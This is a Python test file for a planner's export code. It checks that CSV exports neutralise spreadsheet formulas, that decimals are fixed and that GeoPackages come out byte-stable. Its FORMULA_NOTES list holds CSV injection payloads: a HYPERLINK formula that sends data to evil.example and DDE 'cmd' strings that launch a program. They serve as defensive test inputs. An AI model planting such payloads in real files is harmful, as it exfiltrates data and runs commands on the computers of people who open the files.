"""Export files: no formulas in any CSV, fixed decimals, byte-stable GeoPackages."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
from synthetic import synthetic_country
from synthetic_plan import synthetic_plan

from planner import exports, phasing, tables

FORMULA_NOTES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
]


def test_formula_notes_are_neutralised_in_every_csv(tmp_path: Path) -> None:
    """Notes from a readiness file reach the CSVs as inert text; numbers stay numbers."""
    _, areas, _ = synthetic_country()
    lads = sorted(areas["lad24cd"].unique())[: len(FORMULA_NOTES)]
    quoted = [n.replace('"', '""') for n in FORMULA_NOTES]
    rows = [f'{lad},operating,"{note}"' for lad, note in zip(lads, quoted, strict=True)]
    path = tmp_path / "readiness.csv"
    path.write_text("area_code,readiness,note\n" + "\n".join(rows) + "\n", encoding="utf-8")
    ready = phasing.read_readiness(path, phasing.known_area_codes(areas))
    assert sorted(ready["note"]) == sorted(FORMULA_NOTES)
    plan = synthetic_plan(readiness=ready)
    plan.plan.loc[0, "name"] = "=1+2"  # a name is text too
    tables.write_plan_exports(tmp_path / "out", plan, provenance="test")
    teams = pd.read_csv(tmp_path / "out" / "teams.csv", dtype=str, keep_default_na=False)
    assert set(teams["readiness_note"]) - {""} == {"'" + n for n in FORMULA_NOTES}
    assert teams.loc[teams["name"].str.contains("1+2", regex=False), "name"].tolist() == ["'=1+2"]
    # negative numbers are numbers
    assert teams["deviation_pct"].str.startswith("-").any()
    for csv in sorted((tmp_path / "out").glob("*.csv")):
        frame = pd.read_csv(csv, dtype=str, keep_default_na=False)
        for column in frame.columns:
            for cell in frame[column]:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (csv.name, column, cell)
                if cell.startswith("-"):
                    float(cell)  # only numbers may start with a minus


def test_neutralise_and_restore() -> None:
    assert exports.neutralise("Leeds North") == "Leeds North"
    assert exports.neutralise("\rx") == "'\rx" and exports.neutralise("\t=1") == "'\t=1"
    assert exports.neutralise(-3) == -3 and exports.neutralise(-3.5) == -3.5
    assert exports.neutralise("'=already") == "'=already"
    for text in [*FORMULA_NOTES, "plain", "'quoted"]:
        assert exports.restore(exports.neutralise(text)) == text


def test_to_csv_text_numbers_and_text() -> None:
    frame = pd.DataFrame(
        {"name": ["-a", "b"], "cost": [-1.005, 2.0], "n": [-3, 4], "ok": [True, False]}
    )
    text = exports.to_csv_text(frame)
    assert text == "name,cost,n,ok\n'-a,-1.01,-3,True\nb,2.00,4,False\n"
    back = pd.read_csv(io.StringIO(text))
    assert back["n"].tolist() == [-3, 4]


def test_to_csv_text_keeps_mixed_and_repeated_cells_as_given() -> None:
    """Whole numbers beside blanks stay whole (national.csv's SR column); repeats and NaN."""
    frame = pd.DataFrame(
        {
            "total": pd.Series([63134191, None, "=1+1"], dtype=object),
            "cost": [0.125, float("nan"), 0.125],
            "code": pd.Series(["E06000001", None, "@x"], dtype="str"),
            "count": pd.array([1, None, 3], dtype="Int64"),
        }
    )
    text = exports.to_csv_text(frame)
    assert text == "total,cost,code,count\n63134191,0.13,E06000001,1\n,,,\n'=1+1,0.13,'@x,3\n"
    assert exports.to_csv_text(frame.iloc[:0]) == "total,cost,code,count\n"


def test_fixed_formatting_rounds_half_up() -> None:
    assert exports.fixed(0.125, 2) == "0.13" and exports.fixed(2.5, 0) == "3"
    assert exports.fixed(-0.001, 2) == "0.00" and exports.fixed(float("nan"), 2) == ""


def test_geopackage_is_byte_stable(tmp_path: Path) -> None:
    plan = synthetic_plan()
    first = exports.write_geopackage(tmp_path / "a.gpkg", plan.catchments, layer="c").read_bytes()
    second = exports.write_geopackage(tmp_path / "a.gpkg", plan.catchments, layer="c").read_bytes()
    assert first == second
    assert [p.name for p in tmp_path.iterdir()] == ["a.gpkg"]
